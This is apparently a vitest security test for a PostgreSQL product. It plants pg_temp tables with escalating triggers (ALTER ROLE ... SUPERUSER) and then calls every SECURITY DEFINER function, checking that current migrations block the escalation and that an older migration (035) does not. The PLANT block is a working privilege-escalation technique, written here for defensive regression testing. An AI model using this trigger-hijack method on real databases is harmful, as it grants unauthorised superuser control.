// The privilege-escalation class of issue 11, tried as an attacker would: a LOGIN member of
// iu_core_operator plants, in its own pg_temp, a table named like every product relation
// (and like 035's scratch table iu_bulk_item), each with row and statement triggers that run
// ALTER ROLE <self> SUPERUSER …; then calls EVERY SECURITY DEFINER function it may execute
// (enumerated from pg_proc) with the gates open and arguments that reach its write path, and
// commits. A trigger fired by a SECURITY DEFINER body runs as the function's owner: if any
// body resolves, creates or reuses a caller-created object, the role comes out superuser.
// The same attack is run on a database migrated only to 035, where it must succeed: the
// test proves it can fail.
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { PostgresDb } from '../scripts/db/postgres.ts';
import type { Session } from '../scripts/db/types.ts';
import { migrateUp } from '../scripts/migrations/apply.ts';
import { listMigrations } from '../scripts/migrations/files.ts';
import { ROOT, pgSkipReason, privateServer, type PrivateServer, type TestDb } from './helpers.ts';

const asRole = (url: string, role: string) => {
  const u = new URL(url);
  u.username = role;
  u.password = 'not-checked-trust-auth';
  return u.toString();
};

// Every relation of the product (and 035's scratch table, with its columns so that 035's
// INSERT into it succeeds), as a temp table of the caller with triggers that escalate.
const PLANT = `
DO $plant$
DECLARE
  r record;
BEGIN
  CREATE TEMP TABLE attack_trace (who text, via text);
  CREATE FUNCTION pg_temp.atk_escalate() RETURNS trigger LANGUAGE plpgsql AS $f$
  BEGIN
    INSERT INTO pg_temp.attack_trace VALUES (current_user, format('%s %s %s %s', TG_TABLE_NAME, TG_WHEN, TG_LEVEL, TG_OP));
    BEGIN
      EXECUTE format('ALTER ROLE %I SUPERUSER CREATEROLE CREATEDB BYPASSRLS', session_user);
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
    RETURN CASE WHEN TG_LEVEL = 'ROW' THEN coalesce(NEW, OLD) END;
  END $f$;
  CREATE TEMP TABLE iu_bulk_item (n integer, event_id uuid, suffix text, idempotency_key text, status text, instance_id uuid);
  FOR r IN SELECT c.relname FROM pg_class c WHERE c.relnamespace = 'public'::regnamespace AND c.relkind IN ('r', 'p', 'v', 'm') LOOP
    BEGIN
      EXECUTE format('CREATE TEMP TABLE %I AS SELECT * FROM public.%I WITH NO DATA', r.relname, r.relname);
    EXCEPTION WHEN insufficient_privilege THEN
      EXECUTE format('CREATE TEMP TABLE %I (id uuid)', r.relname);
    END;
  END LOOP;
  FOR r IN SELECT c.relname FROM pg_class c WHERE c.relnamespace = pg_my_temp_schema() AND c.relkind = 'r' AND c.relname <> 'attack_trace' LOOP
    EXECUTE format('CREATE TRIGGER atk_before_row BEFORE INSERT OR UPDATE OR DELETE ON pg_temp.%I FOR EACH ROW EXECUTE FUNCTION pg_temp.atk_escalate()', r.relname);
    EXECUTE format('CREATE TRIGGER atk_after_row AFTER INSERT OR UPDATE OR DELETE ON pg_temp.%I FOR EACH ROW EXECUTE FUNCTION pg_temp.atk_escalate()', r.relname);
    EXECUTE format('CREATE TRIGGER atk_before_stmt BEFORE INSERT OR UPDATE OR DELETE OR TRUNCATE ON pg_temp.%I FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.atk_escalate()', r.relname);
    EXECUTE format('CREATE TRIGGER atk_after_stmt AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON pg_temp.%I FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.atk_escalate()', r.relname);
  END LOOP;
END
$plant$`;

// What the caller may run: every SECURITY DEFINER function, from the catalog.
const CALLABLE = `
  SELECT p.oid::regprocedure::text AS sig, p.proname AS name
    FROM pg_proc p
   WHERE p.prosecdef AND has_function_privilege(current_user, p.oid, 'EXECUTE')
     AND p.pronamespace NOT IN ('pg_catalog'::regnamespace, 'information_schema'::regnamespace)
     AND NOT EXISTS (SELECT 1 FROM pg_depend d WHERE d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e')
   ORDER BY 1`;

const TEMPLATE = `(SELECT id FROM public.iu_piece_collection WHERE collection_key = 'tpl:wf:onboarding/v2')`;
const pieces = (k: string) =>
  JSON.stringify([{ role: 'title', new_piece: { canonical_address: `atk/${k}`, title: 't', body: `b ${k}`, unit_kind: 'doc', section_type: 'title' } }]);

// The attacker's own statements name public explicitly: its planted pg_temp comes first
// on its own search_path.
type Scenario = (s: Session, k: string, self: string) => Promise<unknown>;
const one = async (s: Session, sql: string, params: unknown[] = []) => (await s.query<{ r: unknown }>(sql, params))[0]!.r;
const compose = async (s: Session, k: string, self: string) =>
  (await one(s, `SELECT fn_iu_compose($1, 'doc', 'Attack', NULL, $2::text::jsonb, $3) AS r`, [`atk:${k}`, pieces(k), self])) as { collection_id: string };

// Per function, a call that reaches its write path (the status proves it did).
const SCENARIOS: Record<string, { expect: string | null; run: Scenario }> = {
  fn_iu_compose: { expect: 'ok', run: compose },
  fn_iu_set_lifecycle_status: {
    expect: 'ok',
    run: (s, _k, self) => one(s, `SELECT fn_iu_set_lifecycle_status(u.id, CASE WHEN u.lifecycle_status = 'active' THEN 'deprecated' ELSE 'active' END, $1, 'attack') AS r
                                    FROM (SELECT id, lifecycle_status FROM public.information_unit ORDER BY id LIMIT 1) u`, [self]),
  },
  fn_iu_record_vector_sync: {
    expect: 'ok',
    run: (s, _k, self) => one(s, `SELECT fn_iu_record_vector_sync((SELECT id FROM public.information_unit ORDER BY id LIMIT 1), 'attack_store', repeat('a', 64), $1) AS r`, [self]),
  },
  fn_iu_deliver_outbox: { expect: 'ok', run: (s, _k, self) => one(s, `SELECT fn_iu_deliver_outbox($1, 100) AS r`, [self]) },
  fn_iu_compensate_composition: {
    expect: 'compensated',
    run: async (s, k, self) => one(s, `SELECT fn_iu_compensate_composition($1::uuid, $2, false) AS r`, [(await compose(s, k, self)).collection_id, self]),
  },
  fn_iu_retention_sweep: { expect: 'swept', run: (s, _k, self) => one(s, `SELECT fn_iu_retention_sweep($1, false, 100) AS r`, [self]) },
  fn_iu_collection_mark_as_template: {
    expect: 'ok',
    run: async (s, k, self) => one(s, `SELECT fn_iu_collection_mark_as_template($1::uuid, 'attack', NULL, $2) AS r`, [(await compose(s, k, self)).collection_id, self]),
  },
  fn_iu_collection_record_template_instance: {
    expect: 'ok',
    run: async (s, k, self) =>
      one(s, `SELECT fn_iu_collection_record_template_instance(${TEMPLATE}, $1::uuid, $2, 'attack') AS r`, [(await compose(s, k, self)).collection_id, self]),
  },
  fn_iu_collection_register_template_version: {
    expect: 'ok',
    run: async (s, k, self) => {
      const id = (await compose(s, k, self)).collection_id;
      await one(s, `SELECT fn_iu_collection_mark_as_template($1::uuid, 'attack', NULL, $2) AS r`, [id, self]);
      return one(s, `SELECT fn_iu_collection_register_template_version($1::uuid, $2, 'v1', 1, NULL, $3) AS r`, [id, `atk-family-${k}`, self]);
    },
  },
  fn_iu_auto_instantiate_from_event: {
    expect: 'ok',
    run: (s, k, self) => one(s, `SELECT fn_iu_auto_instantiate_from_event(gen_random_uuid(), 'template.published', ${TEMPLATE}, $1, 'live', $2) AS r`, [`atk-${k}`, self]),
  },
  fn_iu_auto_instantiate_bulk: {
    expect: 'ok',
    run: (s, k, self) =>
      one(s, `SELECT fn_iu_auto_instantiate_bulk(ARRAY[gen_random_uuid(), gen_random_uuid()], 'template.published', ${TEMPLATE}, ARRAY[$1, $2], 'live', $3) AS r`,
        [`atk-${k}-1`, `atk-${k}-2`, self]),
  },
  fn_iu_auto_instantiate_rollback_by_actor: {
    expect: 'rolled_back',
    run: async (s, k, self) => {
      await one(s, `SELECT fn_iu_auto_instantiate_from_event(gen_random_uuid(), 'template.published', ${TEMPLATE}, $1, 'live', $2) AS r`, [`atk-rb-${k}`, self]);
      return one(s, `SELECT fn_iu_auto_instantiate_rollback_by_actor($1, false) AS r`, [self]);
    },
  },
  // Readers: nothing to write, but their bodies run as the owner all the same.
  fn_iu_gate_enabled: { expect: null, run: (s) => one(s, `SELECT fn_iu_gate_enabled('iu_core.composer_enabled') AS r`) },
  fn_iu_manifest_digest: { expect: null, run: (s) => one(s, `SELECT fn_iu_manifest_digest(${TEMPLATE}) AS r`) },
};

const ATTRIBUTES = `SELECT rolsuper, rolcreaterole, rolcreatedb, rolbypassrls, rolreplication,
                           (SELECT count(*)::int FROM pg_auth_members m WHERE m.member = r.oid) AS memberships
                      FROM pg_roles r WHERE rolname = $1`;

interface Outcome {
  called: string[];
  results: Record<string, unknown>;
  errors: Record<string, string>;
  trace: Array<{ who: string; via: string }>;
  before: unknown;
  after: unknown;
}

/** Migrate a fresh database to `to`, load the sample, and run the attack as a new login operator. */
async function attack(server: PrivateServer, to: string | undefined, self: string): Promise<Outcome> {
  const t: TestDb = await server.fresh();
  try {
    await migrateUp(t.db, listMigrations(), to ? { to } : {});
    const ops = join(ROOT, 'ops/25000x-event-automation-real-product-scaleout-ui-ops-finalization');
    await execa('psql', ['-X', '-q', '-v', 'ON_ERROR_STOP=1', '-d', t.flag, '-f', join(ROOT, 'ops/sample/010_templates_and_manual_instances.sql'), '-f', join(ops, '01_file_template_versioning.sql')]);
    await t.db.exec(`CREATE ROLE ${self} LOGIN IN ROLE iu_core_operator`);
    const [before] = await t.db.query(ATTRIBUTES, [self]);
    const attacker = await PostgresDb.connect(asRole(t.flag, self), { max: 1 });
    try {
      const out = await attacker.session(async (s) => {
        await s.exec(PLANT);
        const callable = await s.query<{ sig: string; name: string }>(CALLABLE);
        const results: Record<string, unknown> = {};
        const errors: Record<string, string> = {};
        let i = 0;
        for (const f of callable) {
          const scenario = SCENARIOS[f.name];
          if (!scenario) {
            errors[f.sig] = 'no attack scenario for this function: add one to SCENARIOS';
            continue;
          }
          await s.exec('BEGIN');
          try {
            await s.exec(`UPDATE public.dot_config SET value = 'true' WHERE key LIKE 'iu\\_core.%\\_enabled'`);
            results[f.sig] = await scenario.run(s, `${self}-${++i}`, self);
            await s.exec(`UPDATE public.dot_config SET value = 'false' WHERE key LIKE 'iu\\_core.%\\_enabled'`);
            await s.exec('COMMIT');
          } catch (e) {
            errors[f.sig] = (e as Error).message;
            await s.exec('ROLLBACK');
          }
        }
        const trace = await s.query<{ who: string; via: string }>(`SELECT who, via FROM pg_temp.attack_trace ORDER BY 1, 2`);
        return { called: callable.map((f) => f.sig), results, errors, trace };
      });
      const [after] = await t.db.query(ATTRIBUTES, [self]);
      return { ...out, before, after };
    } finally {
      await attacker.close();
    }
  } finally {
    await t.drop();
  }
}

const statusOf = (r: unknown) => (r && typeof r === 'object' && 'status' in r ? (r as { status: string }).status : r);

describe('SECURITY DEFINER functions against a login operator’s planted temp objects (PostgreSQL)', () => {
  let server: PrivateServer | undefined;
  beforeAll(async () => {
    if (pgSkipReason()) return;
    server = await privateServer();
  }, 120_000);
  afterAll(async () => {
    await server?.destroy();
  });
  beforeEach((ctx) => {
    if (pgSkipReason()) ctx.skip(pgSkipReason());
  });

  it('every SECURITY DEFINER function the operator can execute reaches its write path, and the role’s attributes are unchanged', async () => {
    const o = await attack(server!, undefined, 'mallory');
    expect(o.errors).toEqual({});
    // Every governed write command and both readers were attacked.
    expect(o.called.length).toBeGreaterThanOrEqual(14);
    expect(o.called).toEqual(expect.arrayContaining(['fn_iu_auto_instantiate_bulk(uuid[],text,uuid,text[],text,text,text)', 'fn_iu_gate_enabled(text)']));
    for (const sig of o.called) {
      const want = SCENARIOS[sig.slice(0, sig.indexOf('('))]!.expect;
      if (want) expect(statusOf(o.results[sig]), sig).toBe(want);
    }
    expect(o.after).toEqual(o.before);
    expect(o.after).toMatchObject({ rolsuper: false, rolcreaterole: false, rolcreatedb: false, rolbypassrls: false });
    // No planted trigger ran at all: nothing of the caller's pg_temp was resolved.
    expect(o.trace).toEqual([]);
  }, 300_000);

  it('the same attack on a database migrated only to 035 makes the operator superuser (the test above can fail)', async () => {
    const o = await attack(server!, '035', 'mallory_035');
    expect(o.before).toMatchObject({ rolsuper: false });
    expect(o.after).toMatchObject({ rolsuper: true });
    expect(o.trace.filter((r) => r.who !== 'mallory_035').map((r) => r.via)).toContain('iu_bulk_item BEFORE ROW INSERT');
  }, 300_000);
});
